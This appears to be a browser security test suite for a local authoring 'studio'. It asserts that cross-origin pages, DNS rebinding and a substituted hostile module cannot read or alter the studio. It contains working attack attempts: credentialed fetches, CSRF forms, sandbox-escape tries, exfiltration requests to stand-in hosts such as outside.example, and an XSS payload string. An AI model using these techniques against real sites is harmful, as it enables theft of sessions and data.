// The studio against pages that are open in the same browser, and against a module that runs a stranger's script: what only a real
// browser shows. Raw requests are in tests/studio/.
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import test from 'node:test';
import { launch } from './browser.mjs';
import { OWN_DECK } from './packages.mjs';
import { startStudio } from './studio-start.mjs';

// A studio that is open in a page, with the module shown.
async function enter(t, browser) {
  const { root, url, page, context } = await startStudio(t, browser, { deck: OWN_DECK, page: { viewport: { width: 1500, height: 900 } } });
  await page.waitForFunction(() => document.querySelector('#look iframe[src^="http://localhost"]'));
  const { modules, number } = await page.evaluate(async () => (await fetch('/api/deck')).json());
  return { deck: root, url, origin: new URL(url).origin, page, context, modules, number };
}

// A web site on a port of this machine. `requests` are the paths asked for.
async function site(t, host = '127.0.0.1') {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push({ url: request.url, cookie: request.headers.cookie || '' });
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    response.end('<!doctype html><title>elsewhere</title>');
  });
  await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  t.after(() => { server.closeAllConnections(); server.close(); });
  return { origin: 'http://' + host + ':' + server.address().port, requests };
}

// Everything a page can try against an address, run inside that page: each is a name with what it got, null where it got nothing.
function attack([target, modules]) {
  const urls = ['/', '/api/deck', '/api/texts', '/file/studio.js'].map((path) => target + path).concat(modules + '/m/1/scorm12/en/deck/index.html');
  const late = new Promise((resolve) => { setTimeout(() => resolve(null), 4000); });
  const within = (promise) => Promise.race([promise.catch(() => null), late]);
  const element = (tag, url, key = 'src', more = {}) => within(new Promise((resolve) => {
    const one = Object.assign(document.createElement(tag), more);
    one.onload = () => resolve('loaded');
    one.onerror = () => resolve(null);
    one[key] = url;
    document.body.append(one);
  }));
  const read = (url, options) => within(fetch(url, options).then(async (answer) => (answer.type === 'opaque' ? null : answer.text())));
  const frame = (url) => within(new Promise((resolve) => {
    const one = document.createElement('iframe');
    one.onload = () => { let inside = null; try { inside = one.contentDocument.body.innerHTML || null; } catch (error) { inside = null; } resolve(inside); };
    one.src = url;
    document.body.append(one);
  }));
  const tries = urls.flatMap((url) => [
    ['fetch', () => read(url)],
    ['fetch with the cookie', () => read(url, { credentials: 'include' })],
    ['fetch, no cors', () => read(url, { mode: 'no-cors', credentials: 'include' })],
    ['POST of JSON', () => read(url, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' })],
    ['POST of text', () => read(url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' })],
    ['script', () => element('script', url)],
    ['module script', () => element('script', url, 'src', { type: 'module', crossOrigin: 'use-credentials' })],
    ['style', () => element('link', url, 'href', { rel: 'stylesheet' })],
    ['image', () => element('img', url)],
    ['object', () => element('object', url, 'data')],
    ['frame', () => frame(url)],
    ['event stream', () => within(new Promise((resolve) => { const one = new EventSource(url, { withCredentials: true }); one.onopen = () => resolve('open'); one.onerror = () => { one.close(); resolve(null); }; }))],
    ['web socket', () => within(new Promise((resolve) => { const one = new WebSocket(url.replace('http', 'ws')); one.onopen = () => resolve('open'); one.onerror = () => resolve(null); }))],
    ['worker', () => within(new Promise((resolve) => { const one = new Worker(url); one.onmessage = () => resolve('worker'); one.onerror = () => resolve(null); }))],
    ['beacon', async () => { navigator.sendBeacon(url, '{}'); return null; }],
  ].map(([name, attempt]) => [name + ' ' + new URL(url).pathname, attempt]));
  return Promise.all(tries.map(async ([name, attempt]) => {
    try { return [name, await attempt()]; } catch (error) { return [name, null]; }
  }));
}

test('a page of another site gets nothing, although the cookie is there', async (t) => {
  const browser = await launch(t);
  const studio = await enter(t, browser);
  const { context, page, modules, number } = studio;
  const answered = [];
  context.on('response', async (response) => { if (response.ok() && response.url().startsWith(studio.origin)) answered.push(response); });
  // Another port of 127.0.0.1 is the same site, so that the cookie comes along; a name is another one.
  const near = await site(t);
  const far = await site(t, 'localhost');
  for (const { origin } of [near, far]) {
    const other = await context.newPage();
    await other.goto(origin + '/page');
    answered.length = 0;
    const got = (await other.evaluate(attack, [studio.origin, modules])).filter(([, what]) => what);
    assert.deepEqual(got, [], origin);
    const told = answered.filter((response) => response.frame().page() === other).map((response) => response.url());
    assert.deepEqual(told, [], origin + ' was answered');

    // A form, which needs no permission to send. It takes the page along: what a frame may not show, Chromium tells at times without its answer.
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const refused = other.waitForResponse((response) => response.request().method() === 'POST' && response.request().isNavigationRequest());
      await other.evaluate(([target, type]) => {
        const form = Object.assign(document.createElement('form'), { method: 'post', action: target + '/api/deck', enctype: type });
        form.append(Object.assign(document.createElement('input'), { name: '{"file":"deck.toml","text":"', value: '"}' }));
        document.body.append(form);
        form.submit();
      }, [studio.origin, enctype]);
      assert.equal((await refused).status(), 403, origin + ' ' + enctype);
      await other.waitForURL(studio.origin + '/api/deck');
      await other.goto(origin + '/page');
    }

    // A window of the studio: neither its words nor a handle to it.
    const opening = context.waitForEvent('page');
    await other.evaluate((url) => { window.victim = window.open(url); }, studio.origin + '/');
    const opened = await opening;
    await opened.waitForLoadState();
    const handle = await other.evaluate(() => { try { return window.victim.document.body.innerText; } catch (error) { return null; } });
    assert.equal(handle, null, origin);
    assert.equal(await opened.evaluate(() => window.opener), null, 'the studio does not know who opened it');
    await opened.close();
    await other.close();
  }
  // The studio has noticed nothing of it.
  const after = await page.evaluate(async () => (await fetch('/api/deck')).json());
  assert.equal(after.number, number);
});

test('a name that points to this machine is not the studio', async (t) => {
  const browser = await launch(t, { args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP *.example 127.0.0.1'] });
  const studio = await enter(t, browser);
  const { context, modules } = studio;
  const { port } = new URL(studio.origin);
  const page = await context.newPage();
  for (const path of ['/', '/api/deck', new URL(studio.url).search]) {
    const answer = await page.goto('http://rebound.example:' + port + path);
    assert.equal(answer.status(), 421, path);
  }
  const there = new URL(modules);
  const answer = await page.goto('http://rebound.example:' + there.port + there.pathname + '/m/1/scorm12/en/deck/index.html');
  assert.equal(answer.status(), 421);
});

test('a module that runs a stranger\'s script stays in its frame', async (t) => {
  const browser = await launch(t);
  const other = await site(t);
  const studio = await enter(t, browser);
  const { context, page } = studio;
  const outside = [];
  await context.route((url) => !/^(127\.0\.0\.1|localhost)$/.test(url.hostname), (route) => { outside.push(route.request().url()); return route.abort(); });
  // The deck's text cannot hold a script, so a stranger's takes the place of the module's own; headers stay as the studio sends them.
  const hostile = '(' + hostileModule + ')(' + JSON.stringify([studio.origin, other.origin]) + ', ' + attack + ');';
  await context.route(/\/m\/\d+\/.*\/module\.js$/, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: hostile });
  });
  let tell;
  const got = new Promise((resolve, reject) => { tell = resolve; setTimeout(() => reject(new Error('the module told nothing')), 60000).unref(); });
  await context.exposeBinding('__hostile', (source, what) => tell(what));
  await page.goto(studio.origin + '/');
  const url = page.url();
  const report = await got;
  assert.deepEqual(Object.entries(report).filter(([, what]) => what !== null), []);
  assert.equal(page.url(), url, 'the studio was led away');
  assert.ok(await page.locator('#list button.file').count() > 0, 'the studio is still drawn');
  assert.equal(await page.evaluate(() => document.cookie), '', 'no script sees the cookie');
  assert.deepEqual(outside, [], 'it asked outside');
  assert.deepEqual(other.requests.filter(({ url: asked }) => asked.includes('leak')), [], 'it told another site');
  assert.deepEqual(other.requests.filter(({ cookie }) => cookie.includes('cartable')), []);
});

// Runs in place of the module's script, and tells what it got: null is nothing.
async function hostileModule([studio, other], attackAll) {
  const report = {};
  const attempt = async (name, act) => {
    try { const got = await act(); report[name] = got === undefined ? null : got; } catch (error) { report[name] = null; }
  };
  const gone = () => new Promise((resolve) => { setTimeout(resolve, 1500); });
  await attempt('cookie', () => (document.cookie.includes('cartable') ? document.cookie : null));
  await attempt('the page above', () => window.top.document.body.innerHTML);
  await attempt('the address above', () => window.top.location.href);
  await attempt('the storage above', () => window.top.localStorage.length);
  await attempt('eval', () => eval('1'));
  await attempt('script in the page', () => {
    const one = document.createElement('script');
    one.textContent = 'window.ran = true';
    document.body.append(one);
    return window.ran;
  });
  for (const name of ['_top', '_parent']) {
    await attempt('link to ' + name, async () => {
      const link = Object.assign(document.createElement('a'), { href: other + '/leak', target: name });
      document.body.append(link);
      link.click();
      await gone();
    });
  }
  await attempt('top navigation', async () => { window.top.location = other + '/leak'; await gone(); });
  await attempt('an image elsewhere', () => new Promise((resolve) => {
    const one = new Image();
    one.onload = () => resolve('loaded');
    one.onerror = () => resolve(null);
    one.src = other + '/leak.png';
  }));
  await attempt('a request elsewhere', () => fetch(other + '/leak', { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('a request outside', () => fetch('https://outside.example/leak', { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('a form elsewhere', async () => {
    // Into a frame of its own, because a form that is refused takes its page away.
    const form = Object.assign(document.createElement('form'), { method: 'post', action: other + '/leak', target: 'sink' });
    document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'sink' }));
    form.submit();
    await gone();
  });
  // Messages that the studio should not take: it must not break by them either.
  for (const data of [null, 1, 'x', {}, { cartable: 'place' }, { cartable: 'place', id: { toString: 1 }, text: '<img src=x onerror=alert(1)>' }, { cartable: 'call', name: '<b>', args: 7 }, { cartable: 'state', values: null, size: 'NaN' }, { cartable: 'sent' }, { cartable: '__proto__' }]) {
    window.top.postMessage(data, '*');
  }
  for (const [name, what] of await attackAll([studio, studio])) report[name] = what;
  await attempt('a window of the studio', async () => {
    const opened = window.open(studio + '/');
    await gone();
    return opened && opened.document ? opened.document.body.innerText : null;
  });
  await gone();
  window.__hostile(report);
}

test('a save shows on the page within a second, and a mistake keeps the last good module', async (t) => {
  const browser = await launch(t);
  const studio = await enter(t, browser);
  const { page } = studio;
  const folder = join(studio.deck, 'en');
  const theme = readdirSync(folder).filter((name) => /^\d/.test(name)).sort()[0];
  const card = readdirSync(join(folder, theme)).filter((name) => /^\d/.test(name)).sort()[0];
  const file = join(folder, theme, card);
  const text = readFileSync(file, 'utf8');
  await page.selectOption('#list-language', 'en');
  await page.selectOption('#look-language', 'en');
  const titled = (title) => text.replace(/^title = .*$/m, 'title = "' + title + '"');
  const times = [];
  for (const title of ['First look', 'Second look', 'Third look', 'Fourth look', 'Fifth look']) {
    const begun = Date.now();
    writeFileSync(file, titled(title));
    await page.locator('#list button.file', { hasText: title }).waitFor();
    times.push(Date.now() - begun);
  }
  // Two of five may be moments in which the machine was busy.
  assert.ok(times.sort((a, b) => a - b)[2] <= 1000, 'it took ' + times);
  // The module itself: a state that was read twice has two addresses.
  const module = page.frameLocator('#look iframe').frameLocator('#tabs > iframe').frameLocator('iframe');
  const shows = (title) => module.locator('a.card', { hasText: title }).waitFor();
  await shows('Fifth look');
  writeFileSync(file, text.replace('+++', '++'));
  await page.locator('#look .stale:visible').waitFor();
  await shows('Fifth look');
  writeFileSync(file, titled('Repaired'));
  await page.locator('#look .stale').waitFor({ state: 'hidden' });
  await shows('Repaired');
});
